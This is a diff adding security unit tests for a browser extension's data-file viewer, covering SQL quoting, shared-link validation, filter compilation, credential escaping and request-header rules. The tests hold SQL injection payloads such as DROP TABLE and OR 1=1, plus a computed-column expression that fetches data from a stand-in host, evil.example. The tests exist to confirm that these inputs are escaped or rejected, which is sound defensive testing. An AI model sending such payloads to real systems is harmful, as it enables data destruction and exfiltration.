@@ -1,6 +1,6 @@
 import { describe, it } from 'node:test';
 import assert from 'node:assert/strict';
-import { escapeHtml, escapeSource, escapeLikePattern } from '../parquet-ext/viewer-utils.js';
+import { escapeHtml, escapeSource, escapeLikePattern, parquetRelation, validateViewState, parseViewState, linkComputedColumns, compileFilterTree, sourceRelation, resolveStorageUri, parseHeaderLines, headerRule } from '../parquet-ext/viewer-utils.js';
 
 describe('escapeHtml – XSS prevention', () => {
   it('escapes < and > in cell values', () => {
@@ -58,6 +58,28 @@ describe('escapeSource – SQL injection in file paths', () => {
   });
 });
 
+describe('parquetRelation – SQL injection in file paths', () => {
+  it('quotes the source as a string literal', () => {
+    assert.equal(parquetRelation("x'); DROP TABLE t; --"), "read_parquet('x''); DROP TABLE t; --')");
+  });
+});
+
+describe('sourceRelation – SQL injection in CSV/JSON paths', () => {
+  it('escapes quotes for every reader', () => {
+    assert.equal(sourceRelation("a'); DROP TABLE t; --.csv", 'csv'), "read_csv_auto('a''); DROP TABLE t; --.csv')");
+    assert.equal(sourceRelation(["x'.json"], 'json'), "read_json_auto(['x''.json'], hive_partitioning = true, union_by_name = true)");
+  });
+});
+
+describe('parquetRelation – SQL injection in dataset paths', () => {
+  it('quotes every path in a file list', () => {
+    assert.equal(
+      parquetRelation(["a'b.parquet", 'c.parquet']),
+      "read_parquet(['a''b.parquet', 'c.parquet'], hive_partitioning = true, union_by_name = true)"
+    );
+  });
+});
+
 describe('escapeLikePattern – ILIKE wildcard injection', () => {
   it('escapes percent wildcard', () => {
     assert.equal(escapeLikePattern('100%'), '100\\%');
@@ -83,3 +105,110 @@ describe('escapeLikePattern – ILIKE wildcard injection', () => {
     assert.equal(escapeLikePattern(''), '');
   });
 });
+
+describe('validateViewState – malformed shared links', () => {
+  const cols = [{ name: 'age' }, { name: 'status' }, { name: 'created' }];
+  const meta = {
+    age: { filterType: 'range' },
+    status: { filterType: 'select', values: ['open'] },
+    created: { filterType: 'date' }
+  };
+
+  it('drops filters on columns that are not loaded', () => {
+    const state = validateViewState({ filterMap: { 'x" = 1 OR "1': 'a' } }, cols, meta);
+    assert.deepEqual(state.filterMap, {});
+  });
+
+  it('rejects non-numeric range bounds', () => {
+    const state = validateViewState({ filterMap: { age: { min: '1 OR 1=1', max: '5' } } }, cols, meta);
+    assert.deepEqual(state.filterMap, { age: { min: '', max: '5' } });
+  });
+
+  it('rejects malformed dates', () => {
+    const state = validateViewState({ filterMap: { created: { min: "2024-01-01' OR '1'='1", max: '' } } }, cols, meta);
+    assert.deepEqual(state.filterMap, {});
+  });
+
+  it('rejects select values outside the known set', () => {
+    const state = validateViewState({ filterMap: { status: "open' OR '1'='1" } }, cols, meta);
+    assert.deepEqual(state.filterMap, {});
+  });
+
+  it('rejects filters of the wrong shape', () => {
+    const state = validateViewState({ filterMap: { age: 'x', status: { min: '1' } } }, cols, meta);
+    assert.deepEqual(state.filterMap, {});
+  });
+});
+
+describe('linkComputedColumns – SQL from shared links', () => {
+  it('keeps expressions verbatim, to be shown before anything runs', () => {
+    const expr = "(SELECT content FROM read_text('https://evil.example/' || name))";
+    assert.deepEqual(linkComputedColumns([{ name: 'b', expr }]), { columns: [{ name: 'b', expr }], skipped: 0 });
+  });
+
+  it('counts malformed entries instead of dropping them silently', () => {
+    const raw = [{ name: 'a', expr: 1 }, { name: 'y', expr: 'a + 1' }, { name: 'y', expr: 'a + 2' }, null, { expr: 'x', name: 'z', extra: 'kept out' }];
+    assert.deepEqual(linkComputedColumns(raw), {
+      columns: [{ name: 'y', expr: 'a + 1' }, { name: 'z', expr: 'x' }],
+      skipped: 3
+    });
+  });
+
+  it('is applied when links are parsed', () => {
+    const hash = '#computed=' + encodeURIComponent(JSON.stringify([{ name: 'y', expr: 'a + 1' }, 'x']));
+    assert.deepEqual(parseViewState(hash).computed, { columns: [{ name: 'y', expr: 'a + 1' }], skipped: 1 });
+    assert.deepEqual(parseViewState('#computed=%7Bbad').computed, { columns: [], skipped: 1 });
+  });
+});
+
+describe('compileFilterTree – SQL injection in filter values', () => {
+  const meta = { name: { type: 'VARCHAR' }, age: { type: 'INTEGER' } };
+  const cond = (column, operator, value) => ({ type: 'condition', column, operator, value });
+
+  it('escapes quotes in string literals', () => {
+    assert.equal(compileFilterTree(cond('name', 'eq', "x' OR 1=1 --"), meta), `"name" = 'x'' OR 1=1 --'`);
+  });
+
+  it('escapes quotes in IN lists and regex patterns', () => {
+    assert.equal(compileFilterTree(cond('name', 'in', ["a'); DROP TABLE t; --"]), meta), `"name" IN ('a''); DROP TABLE t; --')`);
+    assert.equal(compileFilterTree(cond('name', 'regex', "'); --"), meta), `regexp_matches(CAST("name" AS VARCHAR), '''); --')`);
+  });
+
+  it('rejects non-numeric values for numeric columns', () => {
+    assert.equal(compileFilterTree(cond('age', 'eq', '1 OR 1=1'), meta), null);
+    assert.equal(compileFilterTree(cond('age', 'in', ['1', '2); DROP TABLE t; --']), meta), null);
+  });
+
+  it('quotes column names', () => {
+    const evil = { 'a" = 1 OR "b': { type: 'VARCHAR' } };
+    assert.equal(compileFilterTree(cond('a" = 1 OR "b', 'is_null'), evil), '"a"" = 1 OR ""b" IS NULL');
+  });
+});
+
+describe('resolveStorageUri – credentials in SQL secrets', () => {
+  it('escapes quotes in credential values', () => {
+    const [statement] = resolveStorageUri('s3://bucket/a.parquet', { secretAccessKey: "x'; DROP TABLE t; --" }).statements;
+    assert.ok(statement.includes(`SECRET 'x''; DROP TABLE t; --'`));
+  });
+
+  it('rejects Azure account names that would change the host', () => {
+    assert.throws(() => resolveStorageUri('az://c/a.parquet', { account: 'evil.example.com/x' }), /storage account/);
+  });
+});
+
+describe('parseHeaderLines / headerRule – custom request headers', () => {
+  it('does not echo header values in errors', () => {
+    assert.throws(() => parseHeaderLines('Bearer secret-token'), (e) => !e.message.includes('secret-token'));
+  });
+
+  it('refuses headers that would break range requests', () => {
+    assert.throws(() => parseHeaderLines('Range: bytes=0-'), /Range/);
+    assert.throws(() => parseHeaderLines('Host: evil.example.com'), /Host/);
+  });
+
+  it('only applies headers to the extension\'s own requests to one origin', () => {
+    const rule = headerRule(1, 'https://data.example.com', [{ name: 'Authorization', value: 'Bearer x' }], 'ext-id');
+    assert.deepEqual(rule.condition.initiatorDomains, ['ext-id']);
+    assert.equal(rule.condition.urlFilter, '|https://data.example.com/');
+  });
+});